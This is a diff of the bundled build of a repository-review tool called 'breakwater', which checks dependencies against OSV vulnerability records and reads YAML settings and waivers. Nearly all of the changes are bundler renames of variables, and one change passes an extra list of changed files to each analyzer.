@@ -2436,8 +2436,8 @@ function scoreOf(given) {
   return null;
 }
 function isInside(events, { version, compare: compare3 }) {
-  const opened5 = events.flatMap(({ introduced }) => introduced ?? []).filter((start2) => isAtOrAfter(version, start2));
-  return opened5.some(
+  const opened4 = events.flatMap(({ introduced }) => introduced ?? []).filter((start2) => isAtOrAfter(version, start2));
+  return opened4.some(
     (start2) => events.every(({ fixed, last_affected: last2 }) => {
       const isFixed3 = fixed !== void 0 && isAtOrAfter(version, fixed) && isAtOrAfter(fixed, start2);
       const isPast = last2 !== void 0 && (compare3(version, last2) ?? 0) > 0 && isAtOrAfter(last2, start2);
@@ -2576,7 +2576,7 @@ import { readdir } from "node:fs/promises";
 import { basename, join as join2, sep } from "node:path";
 async function recordsBelow(folder) {
   const paths3 = await listed(folder, true);
-  const records = paths3.filter((path25) => path25.endsWith(".json"));
+  const records = paths3.filter((path26) => path26.endsWith(".json"));
   if (records.length > 0) return records;
   throw new UserError(`${presentable(folder)} holds no OSV records`, "Unpack what OSV exports: a JSON file each.");
 }
@@ -2591,8 +2591,8 @@ async function listed(folder, recursive) {
 function mayConcern(packages) {
   const wanted = new Set(packages.map(({ ecosystem }) => OSV_ECOSYSTEMS.get(ecosystem)));
   const known3 = new Set(OSV_ECOSYSTEMS.values());
-  return (path25) => {
-    const [top = ""] = path25.split(sep, 1);
+  return (path26) => {
+    const [top = ""] = path26.split(sep, 1);
     return wanted.has(top) || !known3.has(top);
   };
 }
@@ -2600,10 +2600,10 @@ function readAll(folder, paths3, { packages, end }) {
   const records = new Map(packages.map((one) => [osvKeyOf(one), new Array()]));
   const broken3 = [];
   const wanted = paths3.filter(mayConcern(packages));
-  for (const [index, path25] of wanted.entries()) {
+  for (const [index, path26] of wanted.entries()) {
     if (performance.now() > end) return { records, broken: broken3, left: wanted.length - index };
-    const record3 = readRecord(join2(folder, path25));
-    if (record3 === void 0) broken3.push(path25);
+    const record3 = readRecord(join2(folder, path26));
+    if (record3 === void 0) broken3.push(path26);
     else for (const key4 of new Set(keysIn(record3))) records.get(key4)?.push(record3);
   }
   return { records, broken: broken3, left: 0 };
@@ -2646,10 +2646,10 @@ var init_directory = __esm({
           end: performance.now() + time
         });
         if (left > 0) return { known: /* @__PURE__ */ new Map(), failure: new Failure("late", `${left} records are left`) };
-        const places = new Map(paths3.map((path25) => [basename(path25, ".json"), path25]));
+        const places = new Map(paths3.map((path26) => [basename(path26, ".json"), path26]));
         const read4 = async (id3) => {
-          const path25 = places.get(id3);
-          return path25 === void 0 ? void 0 : readRecord(join2(folder, path25));
+          const path26 = places.get(id3);
+          return path26 === void 0 ? void 0 : readRecord(join2(folder, path26));
         };
         const known3 = await inParallel(askable, WIDTH, async (one) => {
           const affecting = (records.get(osvKeyOf(one)) ?? []).filter((record3) => isAffected(record3, one));
@@ -2664,17 +2664,17 @@ var init_directory = __esm({
 
 // src/advisories/batches.ts
 function inBatches(things, most, weigh = () => 0) {
-  const batches = [];
+  const batches2 = [];
   let weight = 0;
   for (const thing2 of things) {
-    const batch = batches.at(-1);
+    const batch = batches2.at(-1);
     const own3 = weigh(thing2);
     const fits = batch !== void 0 && batch.length < most.things && weight + own3 <= (most.weight ?? Infinity);
     if (fits) batch.push(thing2);
-    else batches.push([thing2]);
+    else batches2.push([thing2]);
     weight = fits ? weight + own3 : own3;
   }
-  return batches;
+  return batches2;
 }
 var init_batches = __esm({
   "src/advisories/batches.ts"() {
@@ -2932,8 +2932,8 @@ var init_osv = __esm({
         const failures = [];
         const askable = packages.filter(({ ecosystem }) => OSV_ECOSYSTEMS.has(ecosystem));
         const ask4 = (queries) => askBatch(client, api2, queries);
-        const batches = await inParallel(inBatches(askable, MOST2), WIDTH3, (batch) => idsOf(batch, ask4, failures));
-        const ids = batches.flat();
+        const batches2 = await inParallel(inBatches(askable, MOST2), WIDTH3, (batch) => idsOf(batch, ask4, failures));
+        const ids = batches2.flat();
         const read4 = readerOf(client, api2, failures);
         await inParallel([...new Set(ids.flatMap((listed10) => listed10.ids))], WIDTH3, read4);
         const known3 = await inParallel(ids, WIDTH3, async (listed10) => {
@@ -3339,8 +3339,8 @@ var require_utils = __commonJS({
       }
       return output2;
     };
-    exports.basename = (path25, { windows } = {}) => {
-      const segs = path25.split(windows ? /[\\/]/ : "/");
+    exports.basename = (path26, { windows } = {}) => {
+      const segs = path26.split(windows ? /[\\/]/ : "/");
       const last2 = segs[segs.length - 1];
       if (last2 === "") {
         return segs[segs.length - 2];
@@ -4210,9 +4210,9 @@ var require_parse = __commonJS({
                 const idx = prev.value.lastIndexOf("[");
                 const pre = prev.value.slice(0, idx);
                 const rest2 = prev.value.slice(idx + 2);
-                const posix = POSIX_REGEX_SOURCE[rest2];
-                if (posix) {
-                  prev.value = pre + posix;
+                const posix3 = POSIX_REGEX_SOURCE[rest2];
+                if (posix3) {
+                  prev.value = pre + posix3;
                   state.backtrack = true;
                   advance();
                   if (!bos.output && tokens3.indexOf(prev) === 1) {
@@ -4729,7 +4729,7 @@ var require_picomatch = __commonJS({
         throw new TypeError("Expected pattern to be a non-empty string");
       }
       const opts = options2 || {};
-      const posix = opts.windows;
+      const posix3 = opts.windows;
       const regex2 = isState ? picomatch3.compileRe(glob2, options2) : picomatch3.makeRe(glob2, options2, false, true);
       const state = regex2.state;
       delete regex2.state;
@@ -4739,8 +4739,8 @@ var require_picomatch = __commonJS({
         isIgnored = picomatch3(opts.ignore, ignoreOpts, returnState);
       }
       const matcher2 = (input2, returnObject = false) => {
-        const { isMatch, match: match2, output: output2 } = picomatch3.test(input2, regex2, options2, { glob: glob2, posix });
-        const result = { glob: glob2, state, regex: regex2, posix, input: input2, output: output2, match: match2, isMatch };
+        const { isMatch, match: match2, output: output2 } = picomatch3.test(input2, regex2, options2, { glob: glob2, posix: posix3 });
+        const result = { glob: glob2, state, regex: regex2, posix: posix3, input: input2, output: output2, match: match2, isMatch };
         if (typeof opts.onResult === "function") {
           opts.onResult(result);
         }
@@ -4765,7 +4765,7 @@ var require_picomatch = __commonJS({
       }
       return matcher2;
     };
-    picomatch3.test = (input2, regex2, options2, { glob: glob2, posix } = {}) => {
+    picomatch3.test = (input2, regex2, options2, { glob: glob2, posix: posix3 } = {}) => {
       if (typeof input2 !== "string") {
         throw new TypeError("Expected input to be a string");
       }
@@ -4773,7 +4773,7 @@ var require_picomatch = __commonJS({
         return { isMatch: false, output: "" };
       }
       const opts = options2 || {};
-      const format2 = opts.format || (posix ? utils.toPosixSlashes : null);
+      const format2 = opts.format || (posix3 ? utils.toPosixSlashes : null);
       let match2 = input2 === glob2;
       let output2 = match2 && format2 ? format2(input2) : input2;
       if (match2 === false) {
@@ -4782,16 +4782,16 @@ var require_picomatch = __commonJS({
       }
       if (match2 === false || opts.capture === true) {
         if (opts.matchBase === true || opts.basename === true) {
-          match2 = picomatch3.matchBase(input2, regex2, options2, posix);
+          match2 = picomatch3.matchBase(input2, regex2, options2, posix3);
         } else {
           match2 = regex2.exec(output2);
         }
       }
       return { isMatch: Boolean(match2), match: match2, output: output2 };
     };
-    picomatch3.matchBase = (input2, glob2, options2, posix = options2 && options2.windows) => {
+    picomatch3.matchBase = (input2, glob2, options2, posix3 = options2 && options2.windows) => {
       const regex2 = glob2 instanceof RegExp ? glob2 : picomatch3.makeRe(glob2, options2);
-      return regex2.test(utils.basename(input2, { windows: posix }));
+      return regex2.test(utils.basename(input2, { windows: posix3 }));
     };
     picomatch3.isMatch = (str, patterns, options2) => picomatch3(patterns, options2)(str);
     picomatch3.parse = (pattern, options2) => {
@@ -5069,17 +5069,17 @@ var require_visit = __commonJS({
     visit3.BREAK = BREAK;
     visit3.SKIP = SKIP;
     visit3.REMOVE = REMOVE;
-    function visit_(key4, node2, visitor, path25) {
-      const ctrl = callVisitor(key4, node2, visitor, path25);
+    function visit_(key4, node2, visitor, path26) {
+      const ctrl = callVisitor(key4, node2, visitor, path26);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key4, path25, ctrl);
-        return visit_(key4, ctrl, visitor, path25);
+        replaceNode(key4, path26, ctrl);
+        return visit_(key4, ctrl, visitor, path26);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node2)) {
-          path25 = Object.freeze(path25.concat(node2));
+          path26 = Object.freeze(path26.concat(node2));
           for (let i = 0; i < node2.items.length; ++i) {
-            const ci = visit_(i, node2.items[i], visitor, path25);
+            const ci = visit_(i, node2.items[i], visitor, path26);
             if (typeof ci === "number")
               i = ci - 1;
             else if (ci === BREAK)
@@ -5090,13 +5090,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node2)) {
-          path25 = Object.freeze(path25.concat(node2));
-          const ck = visit_("key", node2.key, visitor, path25);
+          path26 = Object.freeze(path26.concat(node2));
+          const ck = visit_("key", node2.key, visitor, path26);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node2.key = null;
-          const cv = visit_("value", node2.value, visitor, path25);
+          const cv = visit_("value", node2.value, visitor, path26);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -5117,17 +5117,17 @@ var require_visit = __commonJS({
     visitAsync.BREAK = BREAK;
     visitAsync.SKIP = SKIP;
     visitAsync.REMOVE = REMOVE;
-    async function visitAsync_(key4, node2, visitor, path25) {
-      const ctrl = await callVisitor(key4, node2, visitor, path25);
+    async function visitAsync_(key4, node2, visitor, path26) {
+      const ctrl = await callVisitor(key4, node2, visitor, path26);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key4, path25, ctrl);
-        return visitAsync_(key4, ctrl, visitor, path25);
+        replaceNode(key4, path26, ctrl);
+        return visitAsync_(key4, ctrl, visitor, path26);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node2)) {
-          path25 = Object.freeze(path25.concat(node2));
+          path26 = Object.freeze(path26.concat(node2));
           for (let i = 0; i < node2.items.length; ++i) {
-            const ci = await visitAsync_(i, node2.items[i], visitor, path25);
+            const ci = await visitAsync_(i, node2.items[i], visitor, path26);
             if (typeof ci === "number")
               i = ci - 1;
             else if (ci === BREAK)
@@ -5138,13 +5138,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node2)) {
-          path25 = Object.freeze(path25.concat(node2));
-          const ck = await visitAsync_("key", node2.key, visitor, path25);
+          path26 = Object.freeze(path26.concat(node2));
+          const ck = await visitAsync_("key", node2.key, visitor, path26);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node2.key = null;
-          const cv = await visitAsync_("value", node2.value, visitor, path25);
+          const cv = await visitAsync_("value", node2.value, visitor, path26);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -5171,23 +5171,23 @@ var require_visit = __commonJS({
       }
       return visitor;
     }
-    function callVisitor(key4, node2, visitor, path25) {
+    function callVisitor(key4, node2, visitor, path26) {
       if (typeof visitor === "function")
-        return visitor(key4, node2, path25);
+        return visitor(key4, node2, path26);
       if (identity.isMap(node2))
-        return visitor.Map?.(key4, node2, path25);
+        return visitor.Map?.(key4, node2, path26);
       if (identity.isSeq(node2))
-        return visitor.Seq?.(key4, node2, path25);
+        return visitor.Seq?.(key4, node2, path26);
       if (identity.isPair(node2))
-        return visitor.Pair?.(key4, node2, path25);
+        return visitor.Pair?.(key4, node2, path26);
       if (identity.isScalar(node2))
-        return visitor.Scalar?.(key4, node2, path25);
+        return visitor.Scalar?.(key4, node2, path26);
       if (identity.isAlias(node2))
-        return visitor.Alias?.(key4, node2, path25);
+        return visitor.Alias?.(key4, node2, path26);
       return void 0;
     }
-    function replaceNode(key4, path25, node2) {
-      const parent = path25[path25.length - 1];
+    function replaceNode(key4, path26, node2) {
+      const parent = path26[path26.length - 1];
       if (identity.isCollection(parent)) {
         parent.items[key4] = node2;
       } else if (identity.isPair(parent)) {
@@ -5799,10 +5799,10 @@ var require_Collection = __commonJS({
     var createNode = require_createNode();
     var identity = require_identity();
     var Node = require_Node();
-    function collectionFromPath(schema, path25, value) {
+    function collectionFromPath(schema, path26, value) {
       let v2 = value;
-      for (let i = path25.length - 1; i >= 0; --i) {
-        const k2 = path25[i];
+      for (let i = path26.length - 1; i >= 0; --i) {
+        const k2 = path26[i];
         if (typeof k2 === "number" && Number.isInteger(k2) && k2 >= 0) {
           const a = [];
           a[k2] = v2;
@@ -5821,7 +5821,7 @@ var require_Collection = __commonJS({
         sourceObjects: /* @__PURE__ */ new Map()
       });
     }
-    var isEmptyPath = (path25) => path25 == null || typeof path25 === "object" && !!path25[Symbol.iterator]().next().done;
+    var isEmptyPath = (path26) => path26 == null || typeof path26 === "object" && !!path26[Symbol.iterator]().next().done;
     var Collection = class extends Node.NodeBase {
       constructor(type, schema) {
         super(type);
@@ -5851,11 +5851,11 @@ var require_Collection = __commonJS({
        * be a Pair instance or a `{ key, value }` object, which may not have a key
        * that already exists in the map.
        */
-      addIn(path25, value) {
-        if (isEmptyPath(path25))
+      addIn(path26, value) {
+        if (isEmptyPath(path26))
           this.add(value);
         else {
-          const [key4, ...rest] = path25;
+          const [key4, ...rest] = path26;
           const node2 = this.get(key4, true);
           if (identity.isCollection(node2))
             node2.addIn(rest, value);
@@ -5869,8 +5869,8 @@ var require_Collection = __commonJS({
        * Removes a value from the collection.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path25) {
-        const [key4, ...rest] = path25;
+      deleteIn(path26) {
+        const [key4, ...rest] = path26;
         if (rest.length === 0)
           return this.delete(key4);
         const node2 = this.get(key4, true);
@@ -5884,8 +5884,8 @@ var require_Collection = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path25, keepScalar) {
-        const [key4, ...rest] = path25;
+      getIn(path26, keepScalar) {
+        const [key4, ...rest] = path26;
         const node2 = this.get(key4, true);
         if (rest.length === 0)
           return !keepScalar && identity.isScalar(node2) ? node2.value : node2;
@@ -5903,8 +5903,8 @@ var require_Collection = __commonJS({
       /**
        * Checks if the collection includes a value with the key `key`.
        */
-      hasIn(path25) {
-        const [key4, ...rest] = path25;
+      hasIn(path26) {
+        const [key4, ...rest] = path26;
         if (rest.length === 0)
           return this.has(key4);
         const node2 = this.get(key4, true);
@@ -5914,8 +5914,8 @@ var require_Collection = __commonJS({
        * Sets a value in this collection. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path25, value) {
-        const [key4, ...rest] = path25;
+      setIn(path26, value) {
+        const [key4, ...rest] = path26;
         if (rest.length === 0) {
           this.set(key4, value);
         } else {
@@ -6633,9 +6633,9 @@ var require_log = __commonJS({
   "node_modules/yaml/dist/log.js"(exports) {
     "use strict";
     var node_process = __require("process");
-    function debug(logLevel, ...messages) {
+    function debug2(logLevel, ...messages2) {
       if (logLevel === "debug")
-        console.log(...messages);
+        console.log(...messages2);
     }
     function warn(logLevel, warning) {
       if (logLevel === "debug" || logLevel === "warn") {
@@ -6645,7 +6645,7 @@ var require_log = __commonJS({
           console.warn(warning);
       }
     }
-    exports.debug = debug;
+    exports.debug = debug2;
     exports.warn = warn;
   }
 });
@@ -8430,9 +8430,9 @@ var require_Document = __commonJS({
           this.contents.add(value);
       }
       /** Adds a value to the document. */
-      addIn(path25, value) {
+      addIn(path26, value) {
         if (assertCollection(this.contents))
-          this.contents.addIn(path25, value);
+          this.contents.addIn(path26, value);
       }
       /**
        * Create a new `Alias` node, ensuring that the target `node` has the required anchor.
@@ -8507,14 +8507,14 @@ var require_Document = __commonJS({
        * Removes a value from the document.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path25) {
-        if (Collection.isEmptyPath(path25)) {
+      deleteIn(path26) {
+        if (Collection.isEmptyPath(path26)) {
           if (this.contents == null)
             return false;
           this.contents = null;
           return true;
         }
-        return assertCollection(this.contents) ? this.contents.deleteIn(path25) : false;
+        return assertCollection(this.contents) ? this.contents.deleteIn(path26) : false;
       }
       /**
        * Returns item at `key`, or `undefined` if not found. By default unwraps
@@ -8529,10 +8529,10 @@ var require_Document = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path25, keepScalar) {
-        if (Collection.isEmptyPath(path25))
+      getIn(path26, keepScalar) {
+        if (Collection.isEmptyPath(path26))
           return !keepScalar && identity.isScalar(this.contents) ? this.contents.value : this.contents;
-        return identity.isCollection(this.contents) ? this.contents.getIn(path25, keepScalar) : void 0;
+        return identity.isCollection(this.contents) ? this.contents.getIn(path26, keepScalar) : void 0;
       }
       /**
        * Checks if the document includes a value with the key `key`.
@@ -8543,10 +8543,10 @@ var require_Document = __commonJS({
       /**
        * Checks if the document includes a value at `path`.
        */
-      hasIn(path25) {
-        if (Collection.isEmptyPath(path25))
+      hasIn(path26) {
+        if (Collection.isEmptyPath(path26))
           return this.contents !== void 0;
-        return identity.isCollection(this.contents) ? this.contents.hasIn(path25) : false;
+        return identity.isCollection(this.contents) ? this.contents.hasIn(path26) : false;
       }
       /**
        * Sets a value in this document. For `!!set`, `value` needs to be a
@@ -8563,13 +8563,13 @@ var require_Document = __commonJS({
        * Sets a value in this document. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path25, value) {
-        if (Collection.isEmptyPath(path25)) {
+      setIn(path26, value) {
+        if (Collection.isEmptyPath(path26)) {
           this.contents = value;
         } else if (this.contents == null) {
-          this.contents = Collection.collectionFromPath(this.schema, Array.from(path25), value);
+          this.contents = Collection.collectionFromPath(this.schema, Array.from(path26), value);
         } else if (assertCollection(this.contents)) {
-          this.contents.setIn(path25, value);
+          this.contents.setIn(path26, value);
         }
       }
       /**
@@ -10530,9 +10530,9 @@ var require_cst_visit = __commonJS({
     visit3.BREAK = BREAK;
     visit3.SKIP = SKIP;
     visit3.REMOVE = REMOVE;
-    visit3.itemAtPath = (cst, path25) => {
+    visit3.itemAtPath = (cst, path26) => {
       let item2 = cst;
-      for (const [field, index] of path25) {
+      for (const [field, index] of path26) {
         const tok = item2?.[field];
         if (tok && "items" in tok) {
           item2 = tok.items[index];
@@ -10541,23 +10541,23 @@ var require_cst_visit = __commonJS({
       }
       return item2;
     };
-    visit3.parentCollection = (cst, path25) => {
-      const parent = visit3.itemAtPath(cst, path25.slice(0, -1));
-      const field = path25[path25.length - 1][0];
+    visit3.parentCollection = (cst, path26) => {
+      const parent = visit3.itemAtPath(cst, path26.slice(0, -1));
+      const field = path26[path26.length - 1][0];
       const coll = parent?.[field];
       if (coll && "items" in coll)
         return coll;
       throw new Error("Parent collection not found");
     };
-    function _visit(path25, item2, visitor) {
-      let ctrl = visitor(item2, path25);
+    function _visit(path26, item2, visitor) {
+      let ctrl = visitor(item2, path26);
       if (typeof ctrl === "symbol")
         return ctrl;
       for (const field of ["key", "value"]) {
         const token = item2[field];
         if (token && "items" in token) {
           for (let i = 0; i < token.items.length; ++i) {
-            const ci = _visit(Object.freeze(path25.concat([[field, i]])), token.items[i], visitor);
+            const ci = _visit(Object.freeze(path26.concat([[field, i]])), token.items[i], visitor);
             if (typeof ci === "number")
               i = ci - 1;
             else if (ci === BREAK)
@@ -10568,10 +10568,10 @@ var require_cst_visit = __commonJS({
             }
           }
           if (typeof ctrl === "function" && field === "key")
-            ctrl = ctrl(item2, path25);
+            ctrl = ctrl(item2, path26);
         }
       }
-      return typeof ctrl === "function" ? ctrl(item2, path25) : ctrl;
+      return typeof ctrl === "function" ? ctrl(item2, path26) : ctrl;
     }
     exports.visit = visit3;
   }
@@ -12323,31 +12323,31 @@ var require_dist = __commonJS({
 });
 
 // src/settings/read-yaml.ts
-function readYaml(text4, path25, schema) {
-  if (text4.length > LARGEST2) throw new UserError(`${path25} is larger than 256 KiB`, "Keep the settings short.");
+function readYaml(text4, path26, schema) {
+  if (text4.length > LARGEST2) throw new UserError(`${path26} is larger than 256 KiB`, "Keep the settings short.");
   const lines = new import_yaml.LineCounter();
   const document2 = (0, import_yaml.parseDocument)(text4, { lineCounter: lines, logLevel: "silent" });
   const [error] = document2.errors;
   if (error) {
     const [summary = ""] = error.message.split(/ at line \d|\n/);
     const line2 = lines.linePos(error.pos[0]).line;
-    throw new UserError(`${path25}:${line2} is not valid YAML: ${presentable(summary)}`, "Mend the syntax.");
+    throw new UserError(`${path26}:${line2} is not valid YAML: ${presentable(summary)}`, "Mend the syntax.");
   }
   const lineOf5 = (keys2) => {
     const node2 = nodeAt(document2, keys2);
     return lines.linePos((0, import_yaml.isNode)(node2) ? node2.range?.[0] ?? 0 : 0).line;
   };
-  const result = safeParse(schema, valueOf(document2, path25));
+  const result = safeParse(schema, valueOf(document2, path26));
   if (result.success) return { value: result.output, lineOf: lineOf5 };
   const issue = deepest(result.issues);
   const keys = (issue.path ?? []).map((item2) => item2.key);
-  throw new UserError(`${path25}:${lineOf5(keys)} ${describe2(issue, keys)}`, hintFor(issue, schema, keys));
+  throw new UserError(`${path26}:${lineOf5(keys)} ${describe2(issue, keys)}`, hintFor(issue, schema, keys));
 }
-function valueOf(document2, path25) {
+function valueOf(document2, path26) {
   try {
     return document2.toJS({ maxAliasCount: MOST_ALIASES2 }) ?? {};
   } catch (cause) {
-    throw new UserError(`${path25} uses more aliases than settings need`, "Write the values out.", { cause });
+    throw new UserError(`${path26} uses more aliases than settings need`, "Write the values out.", { cause });
   }
 }
 function deepest(issues) {
@@ -12376,8 +12376,8 @@ function describe2(issue, keys) {
 }
 function expectedBy({ message: message4, expected }) {
   if (message4.startsWith("expected")) return message4.slice("expected ".length);
-  const said13 = EXPECTATIONS.find(([pattern]) => pattern.test(expected ?? ""));
-  if (said13 !== void 0) return (expected ?? "").replace(...said13);
+  const said14 = EXPECTATIONS.find(([pattern]) => pattern.test(expected ?? ""));
+  if (said14 !== void 0) return (expected ?? "").replace(...said14);
   const words2 = wordsIn(expected);
   const others = [...KINDS].filter(([name]) => (expected ?? "").includes(name)).map(([, kind]) => kind);
   if (words2.length + others.length === 0) return expected ?? message4;
@@ -12418,8 +12418,8 @@ var init_read_yaml = __esm({
     init_present();
     LARGEST2 = 256 * 1024;
     MOST_ALIASES2 = 20;
-    pathOf = (path25) => {
-      const [first, ...rest] = path25;
+    pathOf = (path26) => {
+      const [first, ...rest] = path26;
       return first === void 0 ? {} : { path: [first, ...rest] };
     };
     isUnknownKey = (issue) => issue.type === "strict_object" && issue.expected === "never";
@@ -12578,11 +12578,11 @@ var init_schema = __esm({
 });
 
 // src/settings/load.ts
-function parseSettings(text4, path25, knownRules) {
-  const file2 = readYaml(text4, path25, settingsSchema);
+function parseSettings(text4, path26, knownRules) {
+  const file2 = readYaml(text4, path26, settingsSchema);
   const written3 = file2.value;
   const unknown2 = namesIn(written3, knownRules).find(({ name, known: known3 }) => !known3.includes(name));
-  if (unknown2 !== void 0) throw unknownName(unknown2, `${path25}:${file2.lineOf(unknown2.keys)}`);
+  if (unknown2 !== void 0) throw unknownName(unknown2, `${path26}:${file2.lineOf(unknown2.keys)}`);
   const { paths: paths3, config: config3, dependencies: dependencies3, waivers: waivers2 } = written3;
   return {
     failOn: written3["fail-on"],
@@ -12600,19 +12600,19 @@ function parseSettings(text4, path25, knownRules) {
     waivers: { from: waivers2.from, maxDays: waivers2["max-days"], unwaivable: waivers2.unwaivable }
   };
 }
-function parseWaivers(text4, path25) {
-  return readYaml(text4, path25, waiversSchema).value.waivers.map(({ id: id3, reason, expires }) => ({
+function parseWaivers(text4, path26) {
+  return readYaml(text4, path26, waiversSchema).value.waivers.map(({ id: id3, reason, expires }) => ({
     id: id3,
     reason: reason ?? "",
     expires: expires ?? ""
   }));
 }
-function namesIn({ rules: rules7, waivers: waivers2, dependencies: dependencies3, approvals: approvals3 }, ids) {
+function namesIn({ rules: rules8, waivers: waivers2, dependencies: dependencies3, approvals: approvals3 }, ids) {
   const matched = (entries2, keys) => entries2.flatMap(
     ({ match: match2 }, index) => [match2.rule ?? []].flat().map((name) => ({ name, keys: [...keys, index, "match", "rule"], known: ids }))
   );
   return [
-    ...Object.keys(rules7).map((name) => ({ name, keys: ["rules", name], known: namesOfRules(ids) })),
+    ...Object.keys(rules8).map((name) => ({ name, keys: ["rules", name], known: namesOfRules(ids) })),
     ...waivers2.unwaivable.map((name, index) => ({
       name,
       keys: ["waivers", "unwaivable", index],
@@ -12651,11 +12651,11 @@ function toAdvisories(written3) {
     }))
   };
 }
-function toMatch({ name, path: path25, direct, ...lists }) {
+function toMatch({ name, path: path26, direct, ...lists }) {
   return {
     ...Object.fromEntries(Object.entries(lists).map(([key4, value]) => [key4, [value].flat()])),
     ...name === void 0 ? {} : { name: nameMatcher([name].flat()) },
-    ...path25 === void 0 ? {} : { path: matcher([path25].flat()) },
+    ...path26 === void 0 ? {} : { path: matcher([path26].flat()) },
     ...direct === void 0 ? {} : { direct }
   };
 }
@@ -12673,8 +12673,8 @@ var init_load = __esm({
     init_read_yaml();
     init_schema();
     classes = CLASSES.map((name) => `class:${name}`);
-    namesOfRules = (rules7) => [
-      ...rules7,
+    namesOfRules = (rules8) => [
+      ...rules8,
       ...classes,
       ...DOMAINS.map((name) => `domain:${name}`)
     ];
@@ -12701,18 +12701,18 @@ var init_paths = __esm({
 async function portsOf(outside, choices2, analyzers2) {
   const lookUp3 = await prepareLookUp(choices2.advisories, () => outside);
   const opening3 = outside.open();
-  const rules7 = analyzers2.flatMap((analyzer) => analyzer.rules.map((rule) => rule.id));
+  const rules8 = analyzers2.flatMap((analyzer) => analyzer.rules.map((rule) => rule.id));
   return {
     read: () => opening3,
-    policy: async () => policyOf(outside, await opening3, choices2, rules7),
+    policy: async () => policyOf(outside, await opening3, choices2, rules8),
     lookUp: lookUp3,
     tool: { name: "breakwater", version: VERSION },
     clock: () => performance.now()
   };
 }
-async function policyOf(outside, repository2, choices2, rules7) {
+async function policyOf(outside, repository2, choices2, rules8) {
   const { failOn: failOn2, only } = choices2;
-  const written3 = await settingsOf(outside, repository2.policy, choices2, rules7);
+  const written3 = await settingsOf(outside, repository2.policy, choices2, rules8);
   const settings = { ...written3, ...failOn2 ? { failOn: failOn2 } : {}, ...only ? { only } : {} };
   return {
     settings,
@@ -12726,12 +12726,12 @@ async function approvalsOf(outside, settings) {
   const names4 = [...new Set(entries2.flatMap((entry2) => entry2.approvals?.from ?? []))];
   return names4.length === 0 ? { approvals: [], notes: [] } : outside.approvals(names4);
 }
-async function settingsOf(outside, base, { settingsFile, settingsPath }, rules7) {
-  const path25 = settingsFile ?? settingsPath ?? SETTINGS_PATH;
-  const text4 = settingsFile === void 0 ? await readOwn(base, path25) : await outside.settingsFile();
-  if (text4 !== void 0) return parseSettings(text4, path25, rules7);
+async function settingsOf(outside, base, { settingsFile, settingsPath }, rules8) {
+  const path26 = settingsFile ?? settingsPath ?? SETTINGS_PATH;
+  const text4 = settingsFile === void 0 ? await readOwn(base, path26) : await outside.settingsFile();
+  if (text4 !== void 0) return parseSettings(text4, path26, rules8);
   if (settingsPath === void 0) return DEFAULT_SETTINGS;
-  throw new UserError(`the base has no settings file ${presentable(path25)}`, "Merge it first, or leave it out.");
+  throw new UserError(`the base has no settings file ${presentable(path26)}`, "Merge it first, or leave it out.");
 }
 async function waiversOf(from3, { policy: base, head }) {
   if (from3 === "head") {
@@ -12749,12 +12749,12 @@ async function readWaivers(tree2) {
   const text4 = await readOwn(tree2, WAIVERS_PATH);
   return text4 === void 0 ? [] : parseWaivers(text4, WAIVERS_PATH);
 }
-async function readOwn(tree2, path25) {
+async function readOwn(tree2, path26) {
   try {
-    return await tree2.read(path25);
+    return await tree2.read(path26);
   } catch (cause) {
     if (!(cause instanceof Unreadable)) throw cause;
-    throw new UserError(`cannot read ${presentable(path25)}: ${cause.message}`, "Mend or remove the file.", { cause });
+    throw new UserError(`cannot read ${presentable(path26)}: ${cause.message}`, "Mend or remove the file.", { cause });
   }
 }
 var init_ports = __esm({
@@ -12781,7 +12781,13 @@ async function analyze(sides, analyzers2, settings) {
     wanted.map(async (analyzer) => {
       const claimed = files4.filter((file2) => claims(analyzer, file2));
       if (claimed.length === 0) return [];
-      const changes = await analyzer.analyze({ files: claimed, base: sides.base, head: sides.head, settings });
+      const changes = await analyzer.analyze({
+        files: claimed,
+        changed: files4,
+        base: sides.base,
+        head: sides.head,
+        settings
+      });
       return changes.map((change2) => ({ domain: analyzer.domain, change: change2 }));
     })
   );
@@ -12805,7 +12811,7 @@ function onceUnreadable(facts) {
 }
 function listed3(files4, why) {
   if (files4.length === 0) return [];
-  const names4 = files4.slice(0, MOST_NAMED2).map(({ path: path25 }) => `\`${path25}\``);
+  const names4 = files4.slice(0, MOST_NAMED2).map(({ path: path26 }) => `\`${path26}\``);
   const more = files4.length > MOST_NAMED2 ? ` and ${files4.length - MOST_NAMED2} more` : "";
   return [`${names4.join(", ")}${more}: ${why}.`];
 }
@@ -12813,7 +12819,7 @@ var claims, isUnreadable, unreadableOf, MOST_NAMED2;
 var init_analyze = __esm({
   "src/analyze.ts"() {
     "use strict";
-    claims = (analyzer, { path: path25, previousPath }) => analyzer.claims(path25) || previousPath !== void 0 && analyzer.claims(previousPath);
+    claims = (analyzer, { path: path26, previousPath }) => analyzer.claims(path26) || previousPath !== void 0 && analyzer.claims(previousPath);
     isUnreadable = (change2) => change2.kind === "file-unreadable";
     unreadableOf = (facts) => facts.map(({ change: change2 }) => change2).filter(isUnreadable).map(({ subject, side: side3, reason, before: before3, after: after2 }) => {
       const line2 = (after2 ?? before3)?.line ?? 1;
@@ -12837,18 +12843,18 @@ var init_risk = __esm({
 
 // src/classify.ts
 function classify(facts, analyzers2) {
-  const rules7 = new Map(analyzers2.map((analyzer) => [analyzer.domain, byKind(analyzer.rules)]));
